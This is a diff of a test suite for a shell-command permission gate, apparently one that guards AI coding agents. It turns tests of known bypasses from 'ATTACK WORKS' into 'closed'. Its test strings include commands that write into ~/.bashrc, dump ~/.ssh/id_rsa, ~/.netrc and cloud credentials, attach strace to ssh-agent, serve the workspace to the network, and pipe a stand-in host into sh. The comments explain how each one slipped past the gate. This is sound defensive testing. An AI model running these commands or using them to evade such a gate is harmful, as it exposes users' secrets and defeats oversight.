@@ -54,10 +54,10 @@ describe('text tools whose output file the gate takes for an input or an option 
       expect(readFileSync(join(home, f), 'utf8'), f).toContain('x.example/i | sh');
   });
 
-  // NOT FIXED: files.ts:256 lists sort's `-o` as an option taking a value and nothing else (it is the file
-  // sort writes); files.ts:257 reads every uniq operand (the second is the output); files.ts:244 the same for
-  // xxd (`xxd [-r] IN OUT`). Fix: count `sort -o/--output`, uniq's and xxd's second operand as writes.
-  it.fails('ATTACK WORKS: the gate allows them, and --output and --output too', () => {
+  // FIXED: gate/analysis/output-files.ts is one table of the options and operands that name a file a program
+  // writes (sort/shuf/iconv `-o`, uniq's and xxd's second operand, `tree -o`, `yq -i`, `history -w`, gawk's
+  // `--dump-variables=`…), each judged as any write to that path, as `cp` onto it is.
+  it('closed: the gate asks for each, spelled with -o, --output= and as an operand (was: allowed)', () => {
     expect(
       allowed([
         'sort -o ~/.bashrc payload.txt',
@@ -76,9 +76,8 @@ describe('a reader whose flag the gate takes for an option with a value', () => 
     expect(sh('column -t ~/.ssh/id_rsa')).toContain('review10');
   });
 
-  // NOT FIXED: files.ts:277 `column: readAll(['-t', '-s', '-c'])`: util-linux and BSD `column -t` (--table) take
-  // no value, so the path after it is skipped as `-t`'s value. `column -t` is the common spelling. Fix: drop -t.
-  it.fails('ATTACK WORKS: column -t of a private key and of ~/.netrc is allowed', () => {
+  // FIXED: files.ts lists util-linux column's options that take a value (`column --help`); `-t` is not one.
+  it('closed: column -t of a private key and of ~/.netrc asks (was: allowed)', () => {
     expect(
       allowed(['column -t ~/.ssh/id_rsa', 'column -t ~/.netrc', 'column -t ~/.aws/credentials']),
     ).toEqual([]);
@@ -94,13 +93,9 @@ describe('credential files named through the variables their own tools read', ()
     );
   });
 
-  // NOT FIXED: `$HOME` is expanded and `~/.kube/config` is a secret, but a path through KUBECONFIG,
-  // GOOGLE_APPLICATION_CREDENTIALS, AWS_SHARED_CREDENTIALS_FILE, DOCKER_CONFIG, GNUPGHOME, CODEX_HOME,
-  // CLAUDE_CONFIG_DIR, XDG_CONFIG_HOME/XDG_DATA_HOME… is an unknown name, and an unknown name is allowed
-  // (`cat $AWS_SHARED_CREDENTIALS_FILE` asks only with a `:-~/.aws/credentials` default). Fix: a table of the
-  // variables that locate credentials (as a secret path), XDG_CONFIG_HOME as ~/.config, XDG_DATA_HOME as
-  // ~/.local/share.
-  it.fails('ATTACK WORKS: cat of them is allowed', () => {
+  // FIXED: gate/analysis/location-variables.ts: a variable the command line did not set that names where
+  // credentials live is judged as the place it names by default, as `$HOME` is `~`.
+  it('closed: cat of them asks (was: allowed)', () => {
     expect(
       allowed([
         'cat "$KUBECONFIG"',
@@ -118,12 +113,10 @@ describe('credential files named through the variables their own tools read', ()
 });
 
 describe('attaching to another process of the user', () => {
-  // NOT FIXED: `gdb -p` and `bpftrace -p` ask, but strace, ltrace, perf, lldb, py-spy, jcmd and jmap attached
-  // to a pid are allowed: they print what the process reads and writes (tokens, keys an agent or ssh-agent
-  // handles) or dump its heap. Where Yama's ptrace_scope is 0 (Debian's default; this machine has no Yama) any
-  // process of the user is reachable. Fix: a `proc.attach` rule for these programs given a pid (-p/--pid, jcmd
-  // and jmap's operand).
-  it.fails('ATTACK WORKS: the gate allows them', () => {
+  // FIXED: gate/analysis/process-attach.ts: one `proc.attach` rule, a debugger, tracer or profiler given a
+  // running process (`-p`/`--pid`/`--attach-pid`, a pid operand, `attach PID`). Where Yama's ptrace_scope is 0
+  // (Debian's default; this machine has no Yama) any process of the user is reachable.
+  it('closed: the gate asks for each (was: allowed)', () => {
     expect(
       allowed([
         'strace -f -e trace=read,write -s 9999 -p $(pgrep -f ssh-agent)',
@@ -138,13 +131,15 @@ describe('attaching to another process of the user', () => {
 });
 
 describe('serving the workspace (with its .env) to the network', () => {
-  // NOT FIXED: `python3 -m http.server` and `php -S` ask; these do the same and are allowed.
-  it.fails('ATTACK WORKS: git daemon, git instaweb and ruby -run -e httpd are allowed', () => {
+  // FIXED: gate/analysis/listeners.ts: one `net.listen` rule, a program run so that it opens a listening server.
+  it('closed: git daemon, git instaweb, ruby -run -e httpd, php -S and busybox httpd ask (was: allowed)', () => {
     expect(
       allowed([
         'git daemon --export-all --base-path=. --reuseaddr --port=9418',
         'git instaweb --httpd=webrick --port=8000',
         'ruby -run -e httpd . -p 8000',
+        'php -S localhost:8000',
+        'busybox httpd -f -p 8080',
       ]),
     ).toEqual([]);
   });
